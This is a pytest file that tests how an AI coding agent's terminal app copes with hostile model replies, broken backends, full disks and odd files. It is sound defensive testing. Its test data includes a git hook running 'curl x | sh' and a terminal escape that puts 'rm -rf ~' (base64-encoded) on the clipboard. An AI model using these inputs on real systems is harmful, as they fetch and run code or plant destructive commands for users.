"""Sessions never die of their input: each hostile reply, server chunk, file or disk below becomes
one sentence, the session goes on, and the log stays whole. Through the real loop (Session
against the replaying server), and through the TUI where the person would see it."""

from __future__ import annotations

import json
import os
import threading

from smallops_tui.agent import read_log
from smallops_tui.agent.log.writer import EventLog
from smallops_tui.agent.session.loop import Choice, ScriptedPolicy

from ..replay_server import Reply
from ..streams import turn
from ..harness import Recorder, run_session
from ..harness import run_app
from ..waiting import wait_for
from smallops_tui.agent.log.events import ActionProposed, BackendError, Executed, Notice, ParseFailed, ReplyFinished, SessionEnded, Undone
from ..typed import last, live_screen, of, outcome_of, plain


def raw(text: str) -> Reply:
    """A reply whose content is `text` exactly (not JSON-encoded again)."""
    return turn(text)


async def test_a_lone_surrogate_escape_is_refused_as_content_and_the_log_stays_whole(workspace, tmp_path) -> None:
    turns = [raw('{"action": "write_file", "path": "a.txt", "content": "x\\ud800y"}'),
             turn({"action": "done", "summary": "tried"})]
    outcome, rec, _ = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    proposed = rec.of(ActionProposed)[0]
    assert proposed.verdict.refused and any("lone surrogate" in r for r in proposed.verdict.reasons)
    assert not (workspace.root / "a.txt").exists() and outcome.status == "done"
    log = read_log(tmp_path / "s.jsonl")
    assert not log.torn and log.events[-1].type == "session_ended"
    logged = of(log.events, ActionProposed)[0]
    assert logged.action["content"] == "x\ud800y"  # written as a JSON escape, read back the same


async def test_an_emoji_sent_as_a_json_surrogate_pair_is_one_character(workspace, tmp_path) -> None:
    turns = [raw('{"action": "write_file", "path": "smile.txt", "content": "hi \\ud83d\\ude00\\n"}'),
             turn({"action": "done", "summary": "smiled"})]
    outcome, rec, _ = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    assert (workspace.root / "smile.txt").read_bytes() == "hi 😀\n".encode()
    log = read_log(tmp_path / "s.jsonl")
    assert not log.torn and outcome.status == "done"


async def test_a_final_chunk_with_wrongly_typed_fields_does_not_end_the_turn(workspace, tmp_path) -> None:
    answer = json.dumps({"action": "list_dir", "path": "."})
    final = {"model": "m", "message": {"role": "assistant", "content": ""}, "done": True, "done_reason": {"x": 1},
             "prompt_eval_count": "many", "eval_count": [3], "eval_duration": "soon", "load_duration": None}
    body = (json.dumps({"model": "m", "message": {"role": "assistant", "content": answer}, "done": False}) + "\n"
            + json.dumps(final) + "\n").encode()
    turns = [Reply("ollama_plain_answer.ndjson", body=body), turn({"action": "done", "summary": "x"})]
    outcome, rec, _ = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    finished = rec.of(ReplyFinished)[0]
    assert finished.raw == answer and finished.done_reason is None and finished.prompt_tokens is None
    assert rec.of(Executed)[0].ok and outcome.status == "done" and not rec.of(BackendError)


async def test_wrongly_typed_usage_from_any_backend_is_dropped_by_the_loop(workspace) -> None:
    """The loop does not trust a backend's types either (a plug-in backend, or one that forgets)."""
    from smallops_tui.agent.session.loop import Session, SessionConfig
    from smallops_tui.backends.base import Finished, Usage

    class Careless:
        model = "careless"  # a Backend names its model (the session reads it only to resume or switch)

        async def stream_chat(self, messages, **options):
            usage = Usage(done_reason={"x": 1}, prompt_tokens="many", answer_tokens=[3],  # type: ignore[arg-type]
                          seconds="soon", tokens_per_second=float("nan"))  # type: ignore[arg-type]
            yield Finished(usage=usage, content='{"action": "done", "summary": "ok"}')

    session = Session(Careless(), workspace, SessionConfig(task="t"), ScriptedPolicy("approve-all"))
    rec = Recorder(session)
    outcome = await session.run()
    finished = rec.of(ReplyFinished)[0]
    assert (finished.done_reason, finished.prompt_tokens, finished.answer_tokens, finished.seconds,
            finished.tokens_per_second) == (None, None, None, None, None)
    assert outcome.status == "done" and not rec.of(BackendError)


async def test_a_backend_that_raises_is_a_sentence_and_the_session_goes_on(workspace, tmp_path) -> None:
    from smallops_tui.agent.session.loop import Session, SessionConfig

    class Broken:
        calls = 0
        model = "broken"  # a Backend names its model (the session reads it only to resume or switch)

        async def stream_chat(self, messages, **options):
            Broken.calls += 1
            if Broken.calls == 1:
                raise KeyError("choices\nwith a second line")
            from smallops_tui.backends.base import Finished
            yield Finished(content='{"action": "done", "summary": "ok"}')

    session = Session(Broken(), workspace, SessionConfig(task="t"), ScriptedPolicy("approve-all"))
    rec = Recorder(session)
    outcome = await session.run()
    error = rec.of(BackendError)[0]
    assert error.kind == "protocol" and "KeyError" in error.message and "\n" not in error.message
    assert outcome.status == "done"


async def test_a_300_byte_file_name_is_a_sentence(workspace, tmp_path) -> None:
    name = "n" * 300 + ".txt"
    turns = [turn({"action": "read_file", "path": name}), turn({"action": "write_file", "path": name, "content": "x"}),
             turn({"action": "list_dir", "path": name}), turn({"action": "done", "summary": "x"})]
    outcome, rec, _ = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    for proposed in rec.of(ActionProposed)[:3]:
        assert proposed.verdict.refused and "too long for the file system" in " ".join(proposed.verdict.reasons)
    assert outcome.status == "done" and not read_log(tmp_path / "s.jsonl").torn


async def test_a_symlink_to_an_outside_file_that_changes_still_gives_a_summary(workspace, tmp_path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("before\n")
    os.symlink(outside, workspace.root / "link.txt")

    class ChangeOutside(ScriptedPolicy):
        async def decide(self, proposal):
            outside.write_text("after, and longer\n")
            return await super().decide(proposal)

    turns = [turn({"action": "list_dir", "path": "."}), turn({"action": "done", "summary": "looked"})]
    outcome, rec, _ = await run_session(turns, workspace, ChangeOutside("approve-all"), tmp_path)
    assert outcome.status == "done" and outcome.summary == "looked"
    assert rec.of(SessionEnded) and "link.txt" not in outcome.modified  # its target is not the workspace's


async def test_undo_after_a_command_turned_the_file_into_a_directory_puts_the_file_back(workspace, tmp_path) -> None:
    """`u` undoes the command (issue 20): the directory it made goes, the file it removed comes back."""
    turns = [turn({"action": "write_file", "path": "added.txt", "content": "new notes\n"}),
             turn({"action": "run_command", "command": "rm added.txt && mkdir added.txt"}),
             turn({"action": "list_dir", "path": "."}),
             turn({"action": "done", "summary": "x"})]
    target = workspace.root / "added.txt"
    async with run_app(turns, workspace, tmp_path) as h:
        await h.approve(1)
        await h.approve(2)
        await h.confirm_if_high()
        await h.proposal(3)
        assert target.is_dir()
        await h.pilot.press("u")
        await wait_for(h.pilot, lambda: h.events(Undone), "the undo")
        assert target.read_text() == "new notes\n"
        assert live_screen(h.app).awaiting_decision  # still usable
        await wait_for(h.pilot, lambda: live_screen(h.app).armed, "arming")
        await h.pilot.press("y")
        await h.approve(4)
        await h.ended()
    assert target.is_file() and outcome_of(h.app).status == "done"


async def test_undo_of_a_command_that_cannot_be_put_back_says_why(workspace, tmp_path) -> None:
    turns = [turn({"action": "run_command", "command": "rm main.py && mkdir main.py && touch main.py/inside"}),
             turn({"action": "list_dir", "path": "."}),
             turn({"action": "done", "summary": "x"})]
    async with run_app(turns, workspace, tmp_path) as h:
        await h.approve(1)
        await h.confirm_if_high()
        await h.proposal(2)
        # Something else fills the directory the command made before the person presses u.
        (workspace.root / "main.py" / "later").write_text("x")
        await h.pilot.press("u")
        await wait_for(h.pilot, lambda: h.app._notifications, "a notification")
        from ..harness import toast_texts

        assert any("main.py is now a directory with files in it" in m for m in toast_texts(h.app))
        assert live_screen(h.app).awaiting_decision


def dev_full_opener(log: EventLog) -> int:
    log._created = True
    return os.open("/dev/full", os.O_WRONLY)


async def test_a_full_disk_for_the_log_at_start_is_said_and_the_session_runs(workspace, tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(EventLog, "_open", dev_full_opener)  # the real kernel's ENOSPC
    turns = [turn({"action": "list_dir", "path": "."}), turn({"action": "done", "summary": "x"})]
    async with run_app(turns, workspace, tmp_path) as h:
        await h.approve(1)  # not "waiting for the model…" forever
        notices = [e.text for e in h.events(Notice)]
        assert any("session log cannot be written (No space left on device)" in n for n in notices)
        # Not only a line that scrolls by: the status bar says so for as long as it lasts.
        assert "LOG NOT WRITTEN" in plain(h.app.query_one("#status"))
        assert live_screen(h.app).state.log_failing
        await h.approve(2)
        await h.ended()


async def test_a_disk_that_fills_mid_session_loses_nothing_once_it_frees(workspace, tmp_path) -> None:
    class FillThenFree(ScriptedPolicy):
        session: Session  # set once the session is built

        def __init__(self) -> None:
            super().__init__("approve-all")
            self.n = 0
            self.real_fd: int | None = None  # the log's own descriptor while /dev/full stands in

        async def decide(self, proposal):
            self.n += 1
            log = self.session.log
            assert log is not None  # the session writes a log
            if self.n == 1:  # the disk fills: writes fail with ENOSPC from the kernel
                self.real_fd, log._fd = log._fd, os.open("/dev/full", os.O_WRONLY)
            elif self.n == 3:  # space again
                assert log._fd is not None
                os.close(log._fd)
                log._fd = self.real_fd
            return Choice("approve", by="policy")

    decider = FillThenFree()
    turns = [turn({"action": "list_dir", "path": "."}), turn({"action": "read_file", "path": "main.py"}),
             turn({"action": "list_dir", "path": "src"}), turn({"action": "done", "summary": "x"})]
    from smallops_tui.agent.session.loop import Session, SessionConfig
    from smallops_tui.backends import OllamaBackend

    from ..replay_server import ReplayServer

    async with ReplayServer({"/api/chat": turns}) as server:
        async with OllamaBackend(server.url, "test") as backend:
            session = Session(backend, workspace, SessionConfig(task="t"), decider, tmp_path / "s.jsonl")
            decider.session = session
            rec = Recorder(session)
            outcome = await session.run()
    notices = [e.text for e in rec.of(Notice)]
    assert any("cannot be written" in n for n in notices) and any("nothing was lost" in n for n in notices)
    written = read_log(tmp_path / "s.jsonl")
    assert not written.torn and outcome.status == "done"
    # Every event the session emitted is in the log, in order.
    assert [e.type for e in written.events] == [e.type for e in rec.events]


async def test_a_reply_ending_in_a_lone_brace_is_a_parse_failure_sentence(workspace, tmp_path) -> None:
    turns = [raw("Let me look at it: {"), turn({"action": "done", "summary": "x"})]
    outcome, rec, server = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    failed = rec.of(ParseFailed)[0]
    assert failed.kind == "invalid_json" and "cut off" in failed.message and "IndexError" not in failed.message
    assert "cut off" in server.requests[1].json()["messages"][-1]["content"] and outcome.status == "done"


async def test_content_containing_a_closing_think_tag_is_written_exactly(workspace, tmp_path) -> None:
    content = "template = '<think>{x}</think>'\nprint(template)\n"
    turns = [turn({"action": "write_file", "path": "t.py", "content": content}),
             turn({"action": "write_file", "path": "u.py", "content": "a</think>b\n"}),
             turn({"action": "done", "summary": "x"})]
    outcome, rec, _ = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    assert (workspace.root / "t.py").read_text() == content
    assert (workspace.root / "u.py").read_text() == "a</think>b\n"
    assert not rec.of(ParseFailed) and outcome.status == "done"


async def test_the_start_snapshot_runs_off_the_event_loop_and_skips_what_it_must_not_read(workspace, tmp_path,
                                                                                            monkeypatch) -> None:
    from smallops_tui.agent.files.workspace import Workspace

    sparse = workspace.root / "disk.img"
    with open(sparse, "wb") as f:
        f.truncate(3 * 1024**3)  # 3 GiB, sparse: reading it whole took 29 s and 3.1 GiB of memory
    os.mkfifo(workspace.root / "pipe")  # opening a FIFO blocks: a snapshot must never do it
    threads: list[str] = []
    real = Workspace.snapshot

    def recording(self, previous=None):
        threads.append(threading.current_thread().name)
        return real(self, previous)

    monkeypatch.setattr(Workspace, "snapshot", recording)
    turns = [turn({"action": "read_file", "path": "pipe"}), turn({"action": "done", "summary": "x"})]
    outcome, rec, _ = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    assert threads and threading.main_thread().name not in threads[:1]
    read = rec.of(Executed)[0]
    assert not read.ok and "is a FIFO (named pipe), not a regular file" in read.summary
    assert outcome.status == "done"
    stamps = real(workspace)
    assert stamps["disk.img"].digest is None and stamps["pipe"].kind == "other"


def test_a_device_node_is_never_opened(workspace) -> None:
    import stat

    import pytest

    from smallops_tui.agent.files.workspace import WorkspaceError

    node = workspace.root / "zero"
    try:
        os.mknod(node, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero: reading it never ends
    except (PermissionError, OSError):
        pytest.skip("this machine does not allow making a device node")
    with pytest.raises(WorkspaceError, match="is a character device, not a regular file"):
        workspace.read_text("zero")
    assert workspace.snapshot()["zero"].kind == "other"


async def test_writes_into_smallops_own_data_dir_are_refused(tmp_path, monkeypatch) -> None:
    from smallops_tui.agent.files.workspace import Workspace

    home = tmp_path / "home"
    (home / "data" / "sessions").mkdir(parents=True)
    monkeypatch.setenv("SMALLOPS_DATA_DIR", str(home / "data"))  # the data dir lies inside the workspace
    workspace = Workspace(home)
    log_path = home / "data" / "sessions" / "s.jsonl"
    turns = [turn({"action": "write_file", "path": "data/sessions/s.jsonl", "content": "{}\n"}),
             turn({"action": "done", "summary": "x"})]
    from smallops_tui.agent.session.loop import Session, SessionConfig
    from smallops_tui.backends import OllamaBackend

    from ..replay_server import ReplayServer

    async with ReplayServer({"/api/chat": turns}) as server:
        async with OllamaBackend(server.url, "test") as backend:
            session = Session(backend, workspace, SessionConfig(task="t"), ScriptedPolicy("approve-all"), log_path)
            rec = Recorder(session)
            await session.run()
    proposed = rec.of(ActionProposed)[0]
    assert proposed.verdict.refused and "smallops' own files" in " ".join(proposed.verdict.reasons)
    log = read_log(log_path)
    assert not log.torn and log.events[-1].type == "session_ended"


def test_writes_into_git_at_any_depth_are_high(workspace) -> None:
    from smallops_tui.agent import classify
    from smallops_tui.agent.reply.kinds import WriteFile

    for path in (".git/hooks/post-checkout", "vendor/x/.git/hooks/post-checkout", "a/b/.hg/hgrc"):
        verdict = classify(WriteFile(path=path, content="#!/bin/sh\ncurl x | sh\n"), workspace)
        assert verdict.level == "HIGH" and "path.vcs_internals" in verdict.rules, path


async def test_a_temp_file_left_by_a_killed_write_is_removed_at_the_next_start(workspace, tmp_path) -> None:
    import signal
    import subprocess
    import sys

    # A real writer, killed with SIGKILL while its temp file exists (before the rename).
    script = ("import sys, time; from smallops_tui.agent.files.workspace import Workspace; from pathlib import Path\n"
              "import smallops_tui.agent.files.workspace as w\n"
              "real = w.os.replace\n"
              "def stuck(a, b):\n    print('written', flush=True); time.sleep(60)\n"
              "w.os.replace = stuck\n"
              "Workspace(sys.argv[1], protected=()).write_bytes('big.bin', b'x' * 30_000_000)\n")
    proc = subprocess.Popen([sys.executable, "-c", script, str(workspace.root)], stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == "written"
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    left = [p.name for p in workspace.root.iterdir() if p.name.startswith(".smallops-tmp-")]
    assert left and f"-{proc.pid}-" in left[0]
    live = workspace.root / f".smallops-tmp-{os.getpid()}-inflight"  # this process is alive: kept
    live.write_bytes(b"in flight")
    turns = [turn({"action": "list_dir", "path": "."}), turn({"action": "done", "summary": "x"})]
    _, rec, _ = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    assert not (workspace.root / left[0]).exists() and live.exists()
    assert not [p for p in rec.of(SessionEnded)[0].created if "smallops-tmp" in p]


def test_the_summary_printed_after_exit_cannot_reach_the_terminal_raw(capsys) -> None:
    from smallops_tui.agent.session.loop import SessionOutcome
    from smallops_tui.cli.run import print_outcome

    print_outcome(SessionOutcome("done", "fixed \x1b]52;c;cm0gLXJmIH4=\x07 it \u202e", 3))
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert out == "session done: fixed \\x1b]52;c;cm0gLXJmIH4=\\x07 it ⟨U+202E⟩\n"


async def test_a_command_no_shell_can_take_fails_with_a_sentence_and_the_session_goes_on(workspace, tmp_path) -> None:
    turns = [raw(json.dumps({"action": "run_command", "command": "echo a\u0000b"})),
             raw('{"action": "run_command", "command": "echo \\ud800"}'),
             turn({"action": "done", "summary": "x"})]
    outcome, rec, server = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    executed = rec.of(Executed)
    assert [e.ok for e in executed] == [False, False]
    assert "NUL byte" in executed[0].summary and "lone surrogate" in executed[1].summary
    assert outcome.status == "done"
    assert "NUL byte" in server.requests[1].json()["messages"][-1]["content"]  # the model is told why


async def test_a_bug_inside_the_session_ends_it_in_a_sentence_with_the_log_closed(workspace, tmp_path) -> None:
    class Broken(ScriptedPolicy):
        async def decide(self, proposal):
            raise RuntimeError("a decider with a bug")

    outcome, rec, _ = await run_session([turn({"action": "list_dir", "path": "."})], workspace, Broken(), tmp_path)
    assert outcome.status == "error" and "RuntimeError: a decider with a bug" in outcome.summary
    log = read_log(tmp_path / "s.jsonl")
    assert last(log.events, SessionEnded).reason == "error"


async def test_a_reply_that_never_ends_is_cut_off_with_memory_and_log_bounded(workspace, tmp_path) -> None:
    from ..streams import ollama_token_body

    # No done line: it would go on. Text that never repeats itself (one block over and over is
    # stopped sooner, as a loop: tests/unit/test_repetition.py), so the size bound is what ends it.
    endless = ollama_token_body("".join(f"{i} " for i in range(60_000)), token_chars=1000)[:-200]
    turns = [Reply("ollama_plain_answer.ndjson", body=endless, split="lines"), turn({"action": "done", "summary": "x"})]

    class StopAfterError(ScriptedPolicy):
        async def after_backend_error(self, kind, message):
            self.error = (kind, message)
            return "stop"

    decider = StopAfterError("approve-all")
    outcome, rec, server = await run_session(turns, workspace, decider, tmp_path, max_reply_chars=50_000)
    assert decider.error[0] == "too_long" and "50,000 characters" in decider.error[1]
    streamed = sum(len(e.text) for e in rec.events if e.type in ("content_delta", "thinking_delta"))
    assert streamed <= 50_000
    assert (tmp_path / "s.jsonl").stat().st_size < 200_000  # the log holds what was shown, not the flood
    assert server.client_closed_early == 1  # the server was told to stop


async def test_reading_a_binary_file_says_so_instead_of_sending_nul_bytes(workspace, tmp_path) -> None:
    with open(workspace.root / "disk.img", "wb") as f:
        f.truncate(3 * 1024**3)  # sparse: all NUL bytes
    (workspace.root / "small.bin").write_bytes(b"\x00\x01\x02" * 100)
    turns = [turn({"action": "read_file", "path": "disk.img"}), turn({"action": "read_file", "path": "small.bin"}),
             turn({"action": "done", "summary": "x"})]
    _, rec, server = await run_session(turns, workspace, ScriptedPolicy("approve-all"), tmp_path)
    big, small = rec.of(Executed)
    assert "3,221,225,472 bytes of binary data" in big.summary and "300 bytes of binary data" in small.summary
    for n in (1, 2):
        told = server.requests[n].json()["messages"][-1]["content"]
        assert "\x00" not in told and "binary data" in told
